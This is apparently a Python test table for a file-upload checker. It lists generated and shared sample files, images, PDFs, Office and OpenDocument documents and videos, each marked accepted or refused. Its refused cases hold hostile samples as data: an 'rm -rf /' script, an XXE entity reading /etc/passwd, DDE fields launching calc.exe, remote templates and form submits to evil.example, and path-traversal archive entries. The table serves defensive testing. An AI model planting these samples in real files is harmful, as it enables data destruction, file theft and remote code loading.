"""The table, to be read as a specification: file, what happens to it, with which code, found to be what."""

import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from pikepdf import Array, Dictionary, Encryption, Name, Pdf, String

from tests.evidence import files, films
from tests.evidence.files import docx, in_root, on_page, outside, pdf
from tests.evidence.office_files import (
    chart,
    click,
    inside,
    odt,
    odt_bomb,
    odt_object,
    pptx,
    pptx_bomb,
    said,
    sounding,
    transition,
)

ROOT = Path(__file__).resolve().parents[2]


@dataclass(frozen=True)
class Case:
    name: str
    verdict: str
    code: str
    kind: str
    make: Callable[[], bytes] | None = None
    says: str = ""
    removed: tuple[str, ...] = ()


def shared_uploads() -> Path | None:
    """The real files, which lie beside the project and do not belong to it."""
    place = Path(os.environ.get("SHARED_DATA", ROOT.parent / "shared" / "data")) / "uploads"
    return place if place.is_dir() else None


def ok(name: str, kind: str, make: Callable[[], bytes] | None = None, *removed: str) -> Case:
    return Case(name, "accepted", "", kind, make, removed=removed)


def no(name: str, code: str, kind: str, make: Callable[[], bytes] | None = None, says: str = "") -> Case:
    return Case(name, "refused", code, kind, make, says)


SHARED = [
    ok("good/baiona_color.jpg", "image"),
    ok("good/crazyones.pdf", "pdf"),
    ok("good/doc_headings_tables.docx", "docx"),
    ok("good/doc_tables.docx", "docx"),
    ok("good/doc_with_images.docx", "docx"),
    ok("good/form_acro.pdf", "pdf"),
    ok("good/gps_DSCN0010.jpg", "image"),
    ok("good/heif_nokia_gps.heif", "image"),
    ok("good/heif_small.heif", "image"),
    ok("good/hopper.png", "image"),
    ok("good/hopper.webp", "image"),
    ok("good/multilang_text.pdf", "pdf"),
    no("good/multipage.tiff", "not-allowed", "tiff"),
    ok("good/odt_table.odt", "odt"),
    ok("good/orientation_6.jpg", "image"),
    ok("good/outline_4p.pdf", "pdf"),
    ok("good/phone_jolla_8mp.jpg", "image"),
    ok("good/scan_huckfinn_page.pdf", "pdf"),
    ok("good/scan_skewed_page.pdf", "pdf"),
    ok("good/scan_typewriter.png", "image"),
    ok("good/slides_speaker_notes.pptx", "pptx"),
    ok("good/slides_test.pptx", "pptx"),
    no("good/svg_benign_gradients.svg", "not-allowed", "svg"),
    ok("good/tagged_accessible.pdf", "pdf"),
    ok("hostile/bad_exif.jpg", "image"),
    no("hostile/bomb.gif", "not-allowed", "gif"),
    no("hostile/bomb_extents.gif", "not-allowed", "gif"),
    no("hostile/broken_data_stream.png", "broken", "image"),
    no("hostile/csv_injection.csv", "not-allowed", "txt"),
    no("hostile/dde_autostart.docx", "active-docx", "docx"),
    no("hostile/embedded_attachment.pdf", "active-pdf", "pdf"),
    no("hostile/empty_0bytes.jpg", "empty", ""),
    ok("hostile/empty_gps_ifd.jpg", "image"),
    no("hostile/encrypted.docx", "encrypted", "encrypted"),
    ok("hostile/malformed_content_stream.pdf", "pdf"),
    no("hostile/malformed_not_a_pdf.pdf", "broken", "pdf"),
    no("hostile/pdf_javascript_onopen.pdf", "active-pdf", "pdf"),
    no("hostile/pdf_launch_action.pdf", "active-pdf", "pdf"),
    no("hostile/svg_script_cdata.svg", "not-allowed", "svg"),
    no("hostile/svg_script_foreignobject.svg", "not-allowed", "svg"),
    no("hostile/tar_path_traversal.tar", "not-allowed", "tar"),
    no("hostile/truncated.jpg", "broken", "image"),
    no("hostile/truncated.png", "broken", "image"),
    no("hostile/vba_macro.ppt", "not-allowed", "ppt"),
    no("hostile/xml_billion_laughs.xml", "not-allowed", "xml"),
    no("hostile/xml_external_entity.xml", "not-allowed", "xml"),
    no("hostile/zip_path_traversal_win.zip", "not-allowed", "zip"),
]


def link(kind: str, **rest: String) -> Callable[[Pdf], None]:
    return on_page(Subtype=Name.Link, A=files.action(kind, **rest))


_CAMERA = ("GPS position", "camera make and model", "author name", "serial number", "captions and comments")
_JS = files.action("JavaScript", JS=String("app.alert(1)"))
_LAUGHS = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><w:document>&b;</w:document>'
_XXE = b'<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document>&a;</w:document>'
_NESTED = files.field("QUOTE 68 68 69")[5:-6]
"""The inside of a paragraph: a field that spells "DDE" in numbers."""

PICTURES = [
    ok("photo.jpg", "image", files.photo, *_CAMERA, "XMP description", "IPTC description"),
    ok("PHOTO.JPEG", "image", files.photo),
    ok("image", "image", files.photo),
    ok("turned.jpg", "image", lambda: files.photo(orientation=6)),
    ok("photo.png", "image", files.png, "GPS position", "author name", "XMP description"),
    ok("photo.webp", "image", files.webp, "GPS position", "XMP description"),
    ok("photo.heic", "image", files.heic, "GPS position", "camera make and model", "XMP description"),
    ok("63_megapixels.jpg", "image", files.big_jpeg),
    no("35000_pixels.png", "too-many-pixels", "image", files.big_png, "35,000 x 35,000"),
    no("comment_bomb.png", "bomb", "image", files.text_bomb_png),
    no("cut.jpg", "broken", "image", lambda: files.photo(width=600, height=400)[:3000]),
    no("really_png.jpg", "not-its-name", "image", files.png, "inside it is a PNG picture"),
    no("really_heic.jpg", "not-its-name", "image", files.heic, "inside it is a HEIC picture"),
    no("script.jpg", "not-its-name", "script", lambda: b"#!/bin/sh\nrm -rf /\n", "inside it is a script"),
    no("page.png", "not-its-name", "html", lambda: b"<script>alert(1)</script>", "inside it is a web page"),
    no("program.heic", "not-its-name", "program", lambda: b"MZ" + bytes(600), "inside it is a program"),
    no("noise.jpg", "not-its-name", "", lambda: bytes(range(256)) * 9, "inside it is not"),
    no("zeros.jpg", "empty", "blank", lambda: bytes(9000), "nothing in it"),
    no("zeros", "empty", "blank", lambda: bytes(20), "Save or copy it anew"),
    no("zeros_first.jpg", "not-its-name", "", lambda: bytes(600) + b"a", "inside it is not a JPEG picture"),
    no("zeros_first.psd", "not-allowed", "", lambda: bytes(600) + b"a", "of a kind we do not know"),
    no("photo.exe", "not-its-name", "image", files.photo, "The name ends in .exe"),
    no("empty.jpg", "empty", "", lambda: b""),
    no("virus.jpg", "not-its-name", "txt", files.eicar),
    no("virus.txt", "not-allowed", "txt", files.eicar),
    no("photo_and_archive.jpg", "polyglot", "image", files.jpeg_and_zip, "at the same time"),
    no("photo_and_pdf.jpg", "polyglot", "image", files.jpeg_and_pdf, "at the same time"),
]

PDFS = [
    ok("plan.pdf", "pdf", files.pdf, "author name", "document properties", "camera data in pictures"),
    ok("twelve.pdf", "pdf", lambda: pdf(pages=12)),
    ok("huge_page.pdf", "pdf", lambda: pdf(files.huge_page)),
    ok("web_link.pdf", "pdf", lambda: pdf(
        link("URI", URI=String("https://example.org/"))
    )),
    ok("file_link.pdf", "pdf", lambda: pdf(
        link("GoToR", F=String("C:/Users/Invented Author/x.pdf"))
    ), "links to files on a computer"),
    ok("commented.pdf", "pdf", lambda: pdf(
        on_page(Subtype=Name.Text, T=String("Invented Author"), Contents=String("Good"))
    ), "names of comment authors"),
    ok("signed.pdf", "pdf", lambda: pdf(files.signed), "digital signature"),
    no("locked.pdf", "encrypted", "pdf", lambda: pdf(encryption=Encryption(user="a", owner="b"))),
    no("no_printing.pdf", "encrypted", "pdf", lambda: pdf(encryption=Encryption(user="", owner="b"))),
    no("script_on_opening.pdf", "active-pdf", "pdf", lambda: pdf(in_root(OpenAction=_JS)), "JavaScript"),
    no("script_behind_link.pdf", "active-pdf", "pdf", lambda: pdf(
        link("URI", URI=String(" JavaScript:alert(1)"))
    ), "JavaScript"),
    no("runs_program.pdf", "active-pdf", "pdf", lambda: pdf(
        link("Launch", F=String("calc.exe"))
    ), "starts another program"),
    no("sends_form.pdf", "active-pdf", "pdf", lambda: pdf(
        link("SubmitForm", F=String("http://evil.example/"))
    ), "sends data"),
    no("by_itself.pdf", "active-pdf", "pdf", lambda: pdf(
        in_root(AA=Dictionary(WC=files.action("Named", N=Name.Print)))
    ), "by themselves"),
    no("attached.pdf", "active-pdf", "pdf", lambda: pdf(files.attach), "attached"),
    no("xfa.pdf", "active-pdf", "pdf", lambda: pdf(
        in_root(AcroForm=Dictionary(Fields=Array([]), XFA=String("<xdp/>")))
    ), "XFA"),
    no("film.pdf", "active-pdf", "pdf", lambda: pdf(on_page(Subtype=Name.RichMedia)), "embedded media"),
    no("endless.pdf", "too-hard", "", lambda: pdf(files.endless)),
    no("61_pages.pdf", "too-many-pages", "pdf", lambda: pdf(pages=61), "61 pages"),
    no("no_pages.pdf", "broken", "pdf", lambda: b"%PDF-1.4\n%%EOF\n"),
    no("pdf_and_archive.pdf", "polyglot", "pdf", files.pdf_and_zip),
]  # fmt: skip

WORDS = [
    ok("plan.docx", "docx", files.docx, "author name and document properties", "names of people",
       "names of comment and change authors", "GPS position in pictures"),
    ok("page_number.docx", "docx", lambda: docx(files.field(" PA", "GE "))),
    ok("web_link.docx", "docx", lambda: docx(links=files.outside("hyperlink", "https://example.org/"))),
    ok("file_link.docx", "docx", lambda: docx(
        links=files.outside("hyperlink", "file:///C:/Users/Invented%20Author/x.docx")
    ), "links to files on a computer"),
    ok("own_template.docx", "docx", lambda: docx(
        links=files.outside("attachedTemplate", "file:///C:/Users/Invented Author/Normal.dotm")
    )),
    no("far_template.docx", "active-docx", "docx", lambda: docx(
        links=files.outside("attachedTemplate", "http://evil.example/x.dotm")
    ), "template"),
    no("share_template.docx", "active-docx", "docx", lambda: docx(
        links=files.outside("attachedTemplate", r"\\evil.example\share\x.dotm")
    ), "template"),
    no("far_object.docx", "active-docx", "docx", lambda: docx(
        links=files.outside("oleObject", "http://evil.example/x")
    )),
    no("far_frame.docx", "active-docx", "docx", lambda: docx(
        links=files.outside("frame", "http://evil.example/x")
    ), "another address"),
    no("dde.docx", "active-docx", "docx", lambda: docx(files.field(" D", "DEAU", "TO c:\\calc.exe ")), "DDE"),
    no("dde_simple.docx", "active-docx", "docx", lambda: docx('<w:fldSimple w:instr="dde calc"/>'), "DDE"),
    no("dde_hidden.docx", "active-docx", "docx", lambda: docx(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{_NESTED}</w:p>'
    ), "hidden"),
    no("macro.docx", "macro", "docx", lambda: docx(parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
    no("macro.docm", "macro", "docm", lambda: docx(
        kind="application/vnd.ms-word.document.macroEnabled.main+xml"
    )),
    no("activex.docx", "active-docx", "docx", lambda: docx(parts={"word/activeX/activeX1.xml": b"<a/>"})),
    no("embedded.docx", "active-docx", "docx", lambda: docx(parts={"word/embeddings/a.bin": b"x"})),
    no("nested.docx", "active-docx", "docx", lambda: docx(
        parts={"word/media/image9.png": files.archive({"a": b"b"})}
    ), "another file"),
    no("virus.docx", "active-docx", "docx", lambda: docx(parts={"word/virus.com": files.eicar()})),
    no("bomb.docx", "bomb", "docx", files.zip_bomb),
    no("overlapping.docx", "bomb", "docx", files.overlapping_bomb),
    no("crowd.docx", "bomb", "docx", lambda: docx(parts={f"word/{n}.xml": b"<a/>" for n in range(2001)})),
    no("climbing.docx", "unsafe-archive", "docx", lambda: docx(parts={"word/../../evil.py": b"x"})),
    no("drive.docx", "unsafe-archive", "docx", lambda: docx(parts={"word/d:evil.py": b"x"})),
    no("laughs.docx", "broken", "docx", lambda: docx(parts={"word/footnotes.xml": _LAUGHS})),
    no("entity.docx", "broken", "docx", lambda: docx(parts={"word/footnotes.xml": _XXE})),
    no("big_picture.docx", "too-many-pixels", "docx", lambda: docx(
        parts={"word/media/image2.png": files.big_png()}
    )),
    no("locked_parts.docx", "encrypted", "docx", files.locked_docx),
    no("locked.docx", "encrypted", "encrypted", lambda: files.old_office("EncryptedPackage")),
    no("old.doc", "not-allowed", "doc", lambda: files.old_office("WordDocument")),
    no("old.docx", "not-its-name", "doc", lambda: files.old_office("WordDocument"), "an old Word document"),
    no("archive.docx", "not-its-name", "zip", lambda: files.archive({"a.txt": b"a"}), "a ZIP archive"),
    no("archive.zip", "not-allowed", "zip", lambda: files.archive({"a.txt": b"a"})),
    no("cut.docx", "broken", "", lambda: docx()[:900]),
]  # fmt: skip

_WAVE = (
    b"RIFF\x2c\0\0\0WAVEfmt \x10\0\0\0\x01\0\x01\0\x40\x1f\0\0\x40\x1f\0\0\x01\0\x08\0data\x08\0\0\0"
    + bytes(8)
)


def _sound(name: str) -> dict[str, bytes]:
    return {f"ppt/media/{name}": _WAVE}


SLIDES = [
    ok("talk.pptx", "pptx", pptx, "author name and document properties", "names of people",
       "names of comment and change authors", "GPS position in pictures", "names of files and folders",
       "data hidden behind the document"),
    ok("chart.pptx", "pptx", lambda: pptx(parts=chart()), "the workbooks behind charts"),
    ok("jump.pptx", "pptx", lambda: pptx(said("Next", click("ppaction://hlinkshowjump?jump=nextslide")))),
    ok("web_link.pptx", "pptx", lambda: pptx(
        said("More", click("", "rId9")), links=outside("hyperlink", "https://example.org/")
    )),
    ok("file_link.pptx", "pptx", lambda: pptx(
        said("More", click("ppaction://hlinkfile", "rId9")),
        links=outside("hyperlink", "file:///C:/Users/Invented%20Author/x.xlsx"),
    ), "links to files on a computer"),
    ok("share_link.pptx", "pptx", lambda: pptx(
        links=outside("hyperlink", r"\\\\secret\home\Invented Author\x.docx")
    ), "links to files on a computer"),
    no("starts_program.pptx", "active-pptx", "pptx", lambda: pptx(
        said("Go", click("ppaction://program", "rId9")), links=outside("hyperlink", "calc.exe")
    ), "starts another program"),
    no("click_macro.pptx", "macro", "pptx", lambda: pptx(said("Go", click("ppaction://macro?name=Go")))),
    no("click_object.pptx", "active-pptx", "pptx", lambda: pptx(said("Go", click("ppaction://ole?verb=0")))),
    no("macro.pptx", "macro", "pptx", lambda: pptx(parts={"ppt/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
    no("macro.pptm", "macro", "pptm", lambda: pptx(
        kind="application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
    ), "PowerPoint presentation (.pptx)"),
    no("show.ppsx", "not-allowed", "ppsx", lambda: pptx(
        kind="application/vnd.openxmlformats-officedocument.presentationml.slideshow.main+xml"
    ), "a PowerPoint show"),
    no("film.pptx", "active-pptx", "pptx", lambda: pptx(parts={"ppt/media/media1.mp4": b"x"}), "a film or sound"),
    no("far_film.pptx", "active-pptx", "pptx", lambda: pptx(
        links=outside("video", "https://evil.example/x")
    ), "another address"),
    no("narrated.pptx", "active-pptx", "pptx", lambda: pptx(
        sounding('<a:audioFile r:link="rId9"/>'), links=inside("audio", "../media/media1.m4a"),
        parts=_sound("media1.m4a"),
    ), "a film or sound"),
    no("transition_sound.pptx", "active-pptx", "pptx", lambda: pptx(
        transition('<p:snd r:embed="rId9" name="chimes.wav"/>'), links=inside("audio", "../media/audio1.wav"),
        parts=_sound("audio1.wav"),
    ), "a film or sound"),
    no("click_sound.pptx", "active-pptx", "pptx", lambda: pptx(
        said("Go", '<a:hlinkClick r:id=""><a:snd r:embed="rId9" name="x"/></a:hlinkClick>'),
        links=inside("audio", "../media/audio1.bin"), parts=_sound("audio1.bin"),
    ), "a film or sound"),
    no("loose_sound.pptx", "active-pptx", "pptx", lambda: pptx(parts=_sound("media1.aiff")), "a film or sound"),
    no("nameless_sound.pptx", "active-pptx", "pptx", lambda: pptx(parts=_sound("media1")), "a film or sound"),
    no("pretended_picture.pptx", "active-pptx", "pptx", lambda: pptx(parts=_sound("image7.jpeg")), "a film or sound"),
    no("pretended_font.pptx", "active-pptx", "pptx", lambda: pptx(
        parts={"ppt/fonts/font1.fntdata": _WAVE}
    ), "a film or sound"),
    no("from_a_cd.pptx", "active-pptx", "pptx", lambda: pptx(
        sounding('<a:audioCd><a:st track="1"/><a:end track="2"/></a:audioCd>')
    ), "a film or sound"),
    no("far_sound.pptx", "active-pptx", "pptx", lambda: pptx(
        sounding('<a:audioFile r:link="rId9"/>'), links=outside("audio", "https://evil.example/x.mp3")
    ), "a film or sound that is fetched from another address"),
    no("sound_on_a_computer.pptx", "active-pptx", "pptx", lambda: pptx(
        sounding('<a:audioFile r:link="rId9"/>'), links=outside("audio", "file:///C:/Users/Invented%20Author/x.mp3")
    ), "a film or sound"),
    no("sound.odp", "not-allowed", "odp", lambda: odt(
        '<presentation:sound xlink:href="Media/a.wav"/>', parts={"Media/a.wav": _WAVE},
        mimetype="application/vnd.oasis.opendocument.presentation",
    ), "an OpenDocument presentation"),
    no("far_picture.pptx", "active-pptx", "pptx", lambda: pptx(
        links=outside("image", "http://evil.example/x.png")
    ), "another address"),
    no("embedded.pptx", "active-pptx", "pptx", lambda: pptx(
        parts={"ppt/embeddings/oleObject1.bin": b"x"}
    ), "another file"),
    no("control.pptx", "active-pptx", "pptx", lambda: pptx(parts={"ppt/activeX/activeX1.xml": b"<a/>"}), "ActiveX"),
    no("add_in.pptx", "active-pptx", "pptx", lambda: pptx(
        parts={"ppt/webextensions/webextension1.xml": b"<a/>"}
    ), "add-in"),
    no("nested.pptx", "active-pptx", "pptx", lambda: pptx(
        parts={"ppt/media/image9.png": files.archive({"a.zip": files.archive({"b": b"c"})})}
    ), "another file"),
    no("program.pptx", "active-pptx", "pptx", lambda: pptx(parts={"ppt/media/run.exe": b"MZ"}), "another file"),
    no("bomb.pptx", "bomb", "pptx", pptx_bomb),
    no("laughs.pptx", "broken", "pptx", lambda: pptx(parts={"ppt/tableStyles.xml": _LAUGHS})),
    no("big_picture.pptx", "too-many-pixels", "pptx", lambda: pptx(
        parts={"ppt/media/image2.png": files.big_png()}
    )),
    no("no_slides.pptx", "broken", "pptx", lambda: files.archive(
        {"[Content_Types].xml": b"presentationml.presentation.main+xml"}
    )),
    no("really_word.pptx", "not-its-name", "docx", docx, "inside it is a Word document"),
]  # fmt: skip

OPEN_DOCUMENTS = [
    ok("plan.odt", "odt", odt, "author name and document properties", "names of comment and change authors",
       "GPS position in pictures", "small preview picture", "data hidden behind the document"),
    ok("formula.odt", "odt", lambda: odt(**odt_object("formula"))),  # type: ignore[arg-type]
    ok("chart.odt", "odt", lambda: odt(**odt_object("chart"))),  # type: ignore[arg-type]
    ok("web_link.odt", "odt", lambda: odt('<text:p><text:a xlink:href="https://example.org/">x</text:a></text:p>')),
    ok("file_link.odt", "odt", lambda: odt(
        '<text:p><text:a xlink:href="file:///home/Invented Author/x.odt">x</text:a></text:p>'
    ), "links to files on a computer"),
    ok("empty_library.odt", "odt", lambda: odt(parts={"Basic/Standard/script-lb.xml": b"<a/>"})),
    no("sheet.odt", "active-odt", "odt", lambda: odt(**odt_object("spreadsheet")), "another file"),  # type: ignore[arg-type]
    no("ole.odt", "active-odt", "odt", lambda: odt('<draw:object-ole xlink:href="./Object 2"/>'), "another file"),
    no("macro.odt", "macro", "odt", lambda: odt(parts={"Basic/Standard/Module1.xml": b"<a/>"}), "OpenDocument"),
    no("python.odt", "macro", "odt", lambda: odt(parts={"Scripts/python/a.py": b"print()"})),
    no("event.odt", "macro", "odt", lambda: odt(
        scripts='<office:scripts><office:event-listeners><script:event-listener '
        'xlink:href="vnd.sun.star.script:Standard.Module1.Main"/></office:event-listeners></office:scripts>'
    )),
    no("script_field.odt", "macro", "odt", lambda: odt(
        '<text:p><text:script script:language="JavaScript">alert(1)</text:script></text:p>'
    )),
    no("macro_link.odt", "macro", "odt", lambda: odt(
        '<text:p><text:a xlink:href="vnd.sun.star.script:a?language=Basic">x</text:a></text:p>'
    )),
    no("script_link.odt", "active-odt", "odt", lambda: odt(
        '<text:p><text:a xlink:href=" javascript:alert(1)">x</text:a></text:p>'
    ), "a script"),
    no("dde.odt", "active-odt", "odt", lambda: odt(
        '<text:section><office:dde-source office:dde-application="soffice"/></text:section>'
    ), "DDE"),
    no("far_section.odt", "active-odt", "odt", lambda: odt(
        '<text:section><text:section-source xlink:href="http://evil.example/x.odt"/></text:section>'
    ), "fetched"),
    no("far_picture.odt", "active-odt", "odt", lambda: odt(
        '<text:p><draw:image xlink:href="https://evil.example/x.png"/></text:p>'
    ), "another address"),
    no("climbing_picture.odt", "active-odt", "odt", lambda: odt(
        '<text:p><draw:image xlink:href="../../etc/passwd"/></text:p>'
    ), "another address"),
    no("frame.odt", "active-odt", "odt", lambda: odt(
        '<draw:floating-frame xlink:href="https://evil.example/"/>'
    ), "another address"),
    no("film.odt", "active-odt", "odt", lambda: odt(
        '<draw:plugin draw:mime-type="application/vnd.sun.star.media" xlink:href="Media/a.mp4"/>'
    ), "a film or sound"),
    no("sound.odt", "active-odt", "odt", lambda: odt(parts={"Media/a.wav": _WAVE}), "a film or sound"),
    no("pretended_picture.odt", "active-odt", "odt", lambda: odt(parts={"Pictures/a.png": _WAVE}), "a film or sound"),
    no("form.odt", "active-odt", "odt", lambda: odt('<form:form xlink:href="http://evil.example/"/>'), "sends data"),
    no("inline.odt", "active-odt", "odt", lambda: odt(
        "<draw:image><office:binary-data>AAAA</office:binary-data></draw:image>"
    ), "another file"),
    no("nested.odt", "active-odt", "odt", lambda: odt(parts={"Pictures/a.png": files.archive({"b": b"c"})})),
    no("program.odt", "active-odt", "odt", lambda: odt(parts={"run.exe": b"MZ"}), "another file"),
    no("locked.odt", "encrypted", "odt", lambda: odt(
        entries='<manifest:file-entry manifest:full-path="x"><manifest:encryption-data/></manifest:file-entry>'
    )),
    no("bomb.odt", "bomb", "odt", odt_bomb),
    no("climbing.odt", "unsafe-archive", "odt", lambda: odt(parts={"Pictures/../../x.png": b"x"})),
    no("entity.odt", "broken", "odt", lambda: odt(
        parts={"Object 1/content.xml": _XXE}, entries=str(odt_object("formula")["entries"])
    )),
    no("template.ott", "not-allowed", "ott", lambda: odt(
        mimetype="application/vnd.oasis.opendocument.text-template"
    ), "an OpenDocument template"),
    no("really_zip.odt", "not-its-name", "zip", lambda: files.archive({"a.txt": b"a"}), "a ZIP archive"),
]  # fmt: skip

_FILM = ("GPS position", "camera make and model", "date and time", "author name", "captions and comments",
         "program name", "hidden tracks (positions, sensor readings, time codes)", "chapters")  # fmt: skip

FILMS = [
    ok("class.mp4", "video", films.film, *_FILM),
    ok("class.mov", "video", lambda: films.film("mov"), *_FILM),
    ok("named_mp4.mov", "video", films.film),
    ok("position_behind.mp4", "video", lambda: films.with_gps_box(films.film())),
    ok("upright.mp4", "video", lambda: films.turned(films.film())),
    ok("hevc.mp4", "video", lambda: films.film(picture="libx265"), "GPS position"),
    ok("av1.mp4", "video", lambda: films.film(picture="libsvtav1", size=(128, 96)), "GPS position"),
    ok("vp9_and_mp3.mp4", "video", lambda: films.film(picture="libvpx-vp9", sound="libmp3lame"), "GPS position"),
    ok("silent.mp4", "video", lambda: films.film(sound="")),
    ok("says_bigger.mp4", "video", lambda: films.says_bigger(films.film())),
    no("clip", "not-its-name", "video", films.film, "Let it end in .mp4"),
    no("film.jpg", "not-its-name", "video", films.film, "inside it is an MP4 film"),
    no("photo.mp4", "not-its-name", "image", files.photo, "inside it is a JPEG picture"),
    no("script.mp4", "not-its-name", "script", lambda: b"#!/bin/sh\nrm -rf /\n", "inside it is a script"),
    no("phone.3gp", "not-allowed", "3gp", lambda: films.film("3gp", picture="libx264"), "a 3GP film"),
    no("film.webm", "not-allowed", "video", lambda: b"\x1aE\xdf\xa3" + bytes(400), "a video"),
    no("recording.m4a", "not-allowed", "audio", lambda: films.box(b"ftyp", b"M4A \0\0\0\0"), "a sound recording"),
    no("sound_only.mp4", "no-pictures", "video", lambda: films.film(picture=""), "no moving picture"),
    no("motion_jpeg.mov", "unplayable", "video", lambda: films.film("mov", picture="mjpeg"), "Motion JPEG"),
    no("raw_sound.mov", "unplayable", "video", lambda: films.film("mov", sound="pcm_s16le"), "PCM"),
    no("eleven_minutes.mp4", "too-long", "video", lambda: films.film(seconds=660, size=(16, 16), sound=""), "11:00"),
    no("says_longer.mp4", "too-long", "video", lambda: films.says_longer(films.film(), 4000), "10 minutes"),
    no("bigger_than_4k.mp4", "too-many-pixels", "video", lambda: films.film(seconds=0.1, size=(4352, 2304)), "4,352"),
    no("countless.mp4", "broken", "video", lambda: films.many_samples(films.film())),
    no("cut.mp4", "broken", "video", lambda: films.cut(films.film(), b"mdat", 0.5)),
    no("cut_in_its_tables.mp4", "broken", "video", lambda: films.cut(films.film(), b"moov", 0.3)),
    ok("tables_first.mp4", "video", lambda: films.tables_first(films.film())),
    no("cut_after_its_tables.mp4", "broken", "video",
       lambda: films.cut(films.tables_first(films.film()), b"mdat", 0.5)),
    no("film_and_archive.mp4", "polyglot", "video", lambda: films.film() + files.archive({"a.class": b"x"})),
]  # fmt: skip

GENERATED = PICTURES + PDFS + WORDS + SLIDES + OPEN_DOCUMENTS + FILMS
